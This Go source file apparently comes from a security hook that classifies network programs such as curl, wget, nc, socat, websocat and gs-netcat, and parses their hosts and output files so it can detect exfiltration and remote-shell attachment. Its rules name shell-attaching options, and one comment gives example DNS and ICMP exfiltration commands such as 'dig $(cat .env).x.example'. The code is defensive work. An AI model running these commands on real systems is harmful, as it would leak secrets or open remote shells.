package programs

import (
	"path"
	"strings"
)

// Network programs: downloaders (their output may be code), senders (the
// network half of exfiltration), and where their hosts are.

var curlSpec = S("odHuXAebcFTxwmrCEKYyzUPQt", "output", "output-dir", "data", "data-binary", "data-raw",
	"data-urlencode", "header", "user", "request", "user-agent", "referer", "cookie", "cookie-jar", "form",
	"upload-file", "proxy", "write-out", "max-time", "range", "config", "url", "json")

var wgetSpec = S("OPoaeiUtTwYQ", "output-document", "directory-prefix", "output-file", "append-output",
	"execute", "input-file", "user-agent", "tries", "timeout", "wait", "header", "user", "password",
	"post-data", "post-file", "body-data", "body-file", "method").Runs("use-askpass", RunsShell)

var _ = register(
	&Program{Name: "curl", Kind: Downloader | NetSender, Opts: curlSpec, URLHost: true, Outputs: curlOutputs},
	&Program{Name: "wget", Kind: Downloader | NetSender, Opts: wgetSpec, URLHost: true, Outputs: wgetOutputs},
	&Program{Name: "aria2c", Kind: Downloader | NetSender, Opts: S("odi", "out", "dir", "input-file").Runs(
		"on-download-complete", RunsShell, "on-download-start", RunsShell, "on-download-error", RunsShell,
		"on-download-pause", RunsShell, "on-download-stop", RunsShell, "on-bt-download-complete", RunsShell), Outputs: aria2Outputs},
	&Program{Name: "fetch", Kind: Downloader | NetSender, Opts: S("o", "output"), Outputs: fetchOutputs},
	&Program{Name: "http", Names: []string{"https", "httpie", "xh", "xhs"}, Kind: Downloader | NetSender,
		Opts: S("oa", "output", "auth"), URLHost: true, Outputs: httpieOutputs},
	&Program{Name: "lwp-request", Names: []string{"GET", "POST", "HEAD"}, Kind: Downloader | NetSender},
	&Program{Name: "invoke-webrequest", Names: []string{"iwr", "irm", "invoke-restmethod"}, Kind: Downloader | NetSender},
	&Program{Name: "nc", Names: []string{"ncat", "netcat"}, Kind: Downloader | NetSender, Opts: S("psiwqWXexc"), HostFirst: true,
		Attaches: ncAttaches},
	&Program{Name: "socat", Kind: Downloader | NetSender, Attaches: attachesBy("EXEC:", "SYSTEM:")},
	&Program{Name: "telnet", Kind: Downloader | NetSender, Opts: S("bl"), HostFirst: true},
	&Program{Name: "ftp", Kind: Downloader | NetSender, HostFirst: true},
	&Program{Name: "tftp", Kind: Downloader | NetSender},
	&Program{Name: "lftp", Kind: Downloader | NetSender, Opts: S("upe"), HostFirst: true},
	&Program{Name: "sftp", Kind: Downloader | NetSender, Opts: S("iFPloSbBDRs"), HostFirst: true, KeyOpts: "iF", CodeIn: scpCode},
	&Program{Name: "scp", Kind: Downloader | NetSender | Reader | Writer | Copier | Archiver, Opts: S("iFPlcoSJ"), KeyOpts: "iF", CodeIn: scpCode},
	&Program{Name: "rsync", Kind: NetSender | Reader | Writer | Copier | Archiver, CodeIn: rsyncCode,
		Opts: S("eBfT", "rsh", "exclude", "include", "filter", "rsync-path", "temp-dir", "backup-dir",
			"files-from", "exclude-from", "chmod", "chown").Runs("rsync-path", RunsRemote)},
	&Program{Name: "ssh", Kind: Downloader | NetSender | Runner, Opts: S("bcDEeFIiJLlmOopQRSWwBp"), HostFirst: true, KeyOpts: "iF", CodeIn: sshOptCode},
	&Program{Name: "ssh-keyscan", Kind: NonReader},
	&Program{Name: "smbclient", Kind: NetSender, HostFirst: true},
	&Program{Name: "mail", Names: []string{"mailx", "sendmail", "mutt", "msmtp", "swaks"}, Kind: NetSender},
	// DNS and ICMP carry data too: dig $(cat .env).x.example, ping -p HEX.
	&Program{Name: "dig", Names: []string{"nslookup", "host", "drill", "kdig", "delv", "whois"}, Kind: NetSender | NonReader},
	&Program{Name: "ping", Names: []string{"ping6", "traceroute", "traceroute6", "tracepath", "mtr"}, Kind: NetSender | NonReader, Opts: S("cipstwWIlQ")},
	// websocat URL: a two-way stream over a WebSocket; sh-c:CMD, exec:PROG
	// and cmd:CMD addresses run a program on it. gs-netcat -i: an
	// interactive shell for whoever knows the shared secret, -e CMD a program.
	&Program{Name: "websocat", Kind: Downloader | NetSender, Attaches: websocatAttaches},
	&Program{Name: "gs-netcat", Names: []string{"gsocket"}, Kind: Downloader | NetSender, Opts: S("sekpdL"),
		Attaches: func(a []string) bool { return HasShortFlag(a, 'i') || has(a, "-e") }},
	&Program{Name: "croc", Names: []string{"magic-wormhole", "wormhole"}, Kind: NetSender | Uploader,
		Uploads: func([]string) bool { return true }},
)

// ncAttaches: nc/ncat -e PROG, -c CMD, --exec, --sh-exec, --lua-exec (also
// in a cluster of short options, -lvpe; not with -z, which only scans).
func ncAttaches(args []string) bool {
	for _, a := range args {
		if a == "-e" || a == "-c" || a == "--exec" || a == "--sh-exec" || a == "--lua-exec" ||
			strings.HasPrefix(a, "--exec=") || strings.HasPrefix(a, "--sh-exec=") ||
			len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsAny(a[1:], "ec") && !strings.ContainsAny(a[1:], "z") {
			return true
		}
	}
	return false
}

// attachesBy reports an address that runs a program, by its prefixes
// (alone or after options, case-insensitive): socat EXEC:/SYSTEM:,
// websocat sh-c:/exec:/cmd:.
func attachesBy(prefixes ...string) func(args []string) bool {
	return func(args []string) bool {
		for _, a := range args {
			u := strings.ToUpper(a)
			for _, p := range prefixes {
				if strings.HasPrefix(u, p) || strings.Contains(u, ","+p) {
					return true
				}
			}
		}
		return false
	}
}

// websocatAttaches: websocat sh-c:/exec:/cmd: addresses, or --exec PROG
// (the stream handed to PROG as with exec:, -s 0.0.0.0:8080 --exec sh).
func websocatAttaches(args []string) bool {
	for _, a := range args {
		if a == "--exec" || strings.HasPrefix(a, "--exec=") {
			return true
		}
	}
	return attachesBy("SH-C:", "EXEC:", "CMD:")(args)
}

// TwoWayStream reports a program that holds a two-way connection to a
// peer with a destination: what it reads comes from the network and what
// it is fed goes there (nc HOST PORT, socat, telnet, openssl s_client
// -connect, websocat URL, gs-netcat). curl and wget send once.
func TwoWayStream(name string, args []string) bool {
	switch Canon(name) {
	case "nc", "socat", "telnet", "websocat", "gs-netcat":
		return len(args) > 0
	case "openssl":
		return len(args) > 0 && (args[0] == "s_client" || args[0] == "s_server")
	}
	return false
}

// URLBase is the file name curl -O / wget save a URL under ("" when none).
func URLBase(u string) string {
	if !strings.Contains(u, "://") {
		return ""
	}
	if k := strings.IndexAny(u, "?#"); k >= 0 {
		u = u[:k]
	}
	_, rest, _ := strings.Cut(u, "://")
	k := strings.IndexByte(rest, '/')
	if k < 0 {
		return ""
	}
	b := path.Base(rest[k:])
	if b == "/" || b == "." {
		return ""
	}
	return b
}

func urls(args []string) []string {
	var out []string
	for _, a := range args {
		if strings.Contains(a, "://") {
			out = append(out, a)
		}
	}
	return out
}

func join(dir, f string) string {
	if dir == "" || strings.HasPrefix(f, "/") {
		return f
	}
	return strings.TrimSuffix(dir, "/") + "/" + f
}

func curlOutputs(args []string) []string {
	var out []string
	o := Parse(args, curlSpec)
	dir := o.Long["output-dir"]
	if v := o.Values["o"]; v != "" && v != "-" {
		out = append(out, join(dir, v))
	}
	if v := o.Long["output"]; v != "" && v != "-" {
		out = append(out, join(dir, v))
	}
	if o.Short['O'] || o.Has(0, "remote-name", "remote-name-all") {
		for _, u := range urls(args) {
			if b := URLBase(u); b != "" {
				out = append(out, join(dir, b))
			}
		}
	}
	return out
}

func wgetOutputs(args []string) []string {
	var out []string
	o := Parse(args, wgetSpec)
	dir := o.Value('P', "directory-prefix")
	doc := o.Value('O', "output-document")
	switch {
	case doc == "-":
	case doc != "":
		out = append(out, doc)
	default:
		for _, u := range urls(args) {
			if b := URLBase(u); b != "" {
				out = append(out, join(dir, b))
			}
			// wget keeps the query in the name: i.sh?v=1
			if k := strings.IndexByte(u, '?'); k >= 0 {
				if b := URLBase(u[:k]); b != "" {
					q, _, _ := strings.Cut(u[k:], "#")
					out = append(out, join(dir, b+q))
				}
			}
		}
	}
	return out
}

func aria2Outputs(args []string) []string {
	o := Parse(args, S("odi", "out", "dir", "input-file"))
	return namedOrURL(args, o.Value('d', "dir"), o.Value('o', "out"))
}

func fetchOutputs(args []string) []string {
	o := Parse(args, S("o", "output"))
	return namedOrURL(args, "", o.Value('o', "output"))
}

func namedOrURL(args []string, dir, f string) []string {
	switch {
	case f == "-":
		return nil
	case f != "":
		return []string{join(dir, f)}
	}
	var out []string
	for _, u := range urls(args) {
		if b := URLBase(u); b != "" {
			out = append(out, join(dir, b))
		}
	}
	return out
}

func httpieOutputs(args []string) []string {
	o := Parse(args, S("oa", "output", "auth"))
	if v := o.Value('o', "output"); v != "" && v != "-" {
		return []string{v}
	}
	return nil
}

// IsRemote matches scp/rsync remote operands (host:path, rsync://).
func IsRemote(s string) bool {
	if strings.Contains(s, "://") {
		return true
	}
	k := strings.IndexByte(s, ':')
	return k > 0 && !strings.Contains(s[:k], "/")
}

// LooksLikeHost matches a bare operand that names a host (example.com/x).
func LooksLikeHost(a string) bool {
	h := a
	if k := strings.IndexAny(h, "/:"); k >= 0 {
		h = h[:k]
	}
	return strings.Count(h, ".") >= 1 && !strings.HasPrefix(h, ".") && !strings.ContainsAny(h, "@=$ ") && !strings.HasPrefix(a, "/")
}

// Hosts are the hosts a network program names in args; ok is false when it
// is a network program but names none it can tell (a send to anywhere), and
// local is true for a local copy by rsync/scp (no host at all).
func Hosts(name string, args []string) (hosts []string, local bool) {
	p := Lookup(name)
	if !p.Is(NetSender) {
		return nil, true
	}
	if p.HostFirst {
		if o := Parse(args, p.Opts); len(o.Pos) > 0 {
			hosts = append(hosts, HostOf(o.Pos[0]))
		}
		return hosts, false
	}
	remote := false
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		if strings.Contains(a, "://") || (!p.URLHost && IsRemote(a)) {
			hosts = append(hosts, HostOf(a))
			remote = true
		} else if p.URLHost && LooksLikeHost(a) {
			hosts = append(hosts, HostOf(a))
			remote = true
		}
	}
	if (name == "rsync" || name == "scp") && !remote {
		return nil, true
	}
	return hosts, false
}

// HostOf extracts the host of a URL or scp-style user@host:path.
func HostOf(s string) string {
	// no net/url: the hook's import graph stays free of net*.
	if i := strings.Index(s, "://"); i > 0 {
		rest := s[i+3:]
		if k := strings.IndexAny(rest, "/?#"); k >= 0 {
			rest = rest[:k]
		}
		if k := strings.LastIndexByte(rest, '@'); k >= 0 {
			rest = rest[k+1:]
		}
		if strings.HasPrefix(rest, "[") { // [v6]:port
			if k := strings.IndexByte(rest, ']'); k > 0 {
				return strings.ToLower(rest[1:k])
			}
		}
		if k := strings.IndexByte(rest, ':'); k >= 0 {
			rest = rest[:k]
		}
		return strings.ToLower(rest)
	}
	h := s
	if k := strings.IndexByte(h, ':'); k >= 0 {
		h = h[:k]
	}
	if k := strings.LastIndexByte(h, '@'); k >= 0 {
		h = h[k+1:]
	}
	if h == "" || strings.ContainsAny(h, "/ ") {
		return ""
	}
	return strings.ToLower(h)
}
